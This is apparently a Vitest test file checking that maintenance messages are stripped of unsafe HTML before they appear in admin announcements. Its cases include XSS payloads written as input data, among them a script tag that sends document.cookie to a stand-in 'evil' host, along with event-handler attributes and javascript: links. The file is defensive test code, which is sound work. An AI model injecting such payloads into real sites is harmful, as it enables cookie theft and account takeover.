import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApp, type TestApp } from "../../test/support/app.ts";
import { createBody } from "../../test/support/maintenance-fixtures.ts";

/** A provider's maintenance message reaches every user through the admin announcements: its HTML is sanitised there. */
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({}, { now: () => new Date("2030-01-01T09:30:00Z") });
});
afterAll(() => t.close());

const owner = () => t.world.tokens.providerOwner;

async function scheduled(message: string) {
  const created = await t.http("POST", "/api/maintenance-announcements/", { token: owner(), body: createBody(t, { message }) });
  expect(created.status, created.text).toBe(201);
  const uuid: string = created.body.uuid;
  expect((await t.http("POST", `/api/maintenance-announcements/${uuid}/schedule/`, { token: owner() })).status).toBe(200);
  return uuid;
}

async function announcementOf(maintenanceUuid: string): Promise<string> {
  const list = await t.http("GET", "/api/admin-announcements/?page_size=300", { token: t.world.tokens.unrelated });
  const found = (list.body as Array<{ maintenance_uuid: string | null; description: string }>).find((a) => a.maintenance_uuid === maintenanceUuid);
  expect(found).toBeDefined();
  return found!.description;
}

describe("the admin announcement of a maintenance", () => {
  const CASES: Array<[string, string, string]> = [
    ["drops <script>", 'Reboot<script>fetch("//evil/?c="+document.cookie)</script> tonight', "Reboot tonight"],
    ["drops onerror= attributes", 'Down <img src=x onerror="alert(1)">now', "Down now"],
    ["drops event handlers and styles on allowed tags", '<p onmouseover="alert(1)" style="color:red">Disks</p>', "<p>Disks</p>"],
    ["drops javascript: links", '<a href="javascript:alert(1)">status</a>', "<a>status</a>"],
    ["drops iframes and svg", '<iframe src="//evil"></iframe><svg onload="alert(1)"></svg>Done', "Done"],
    ["keeps safe markup and https links", '<b>New</b> <a href="https://status.example.org">status page</a>', '<b>New</b> <a href="https://status.example.org">status page</a>'],
  ];
  for (const [what, message, shown] of CASES) {
    it(what, async () => {
      const uuid = await scheduled(message);
      expect(await announcementOf(uuid)).toBe(`🔧 Scheduled Maintenance: ${shown}`);
    });
  }

  it("a message edited while scheduled is sanitised too; the maintenance itself keeps the provider's text", async () => {
    const uuid = await scheduled("Plain");
    const message = '<a href="javascript:steal()" onclick="steal()">Read more</a>';
    expect((await t.http("PATCH", `/api/maintenance-announcements/${uuid}/`, { token: owner(), body: { message } })).status).toBe(200);
    expect(await announcementOf(uuid)).toBe("🔧 Scheduled Maintenance: <a>Read more</a>");
    expect((await t.http("GET", `/api/maintenance-announcements/${uuid}/`, { token: owner() })).body.message).toBe(message);
  });
});
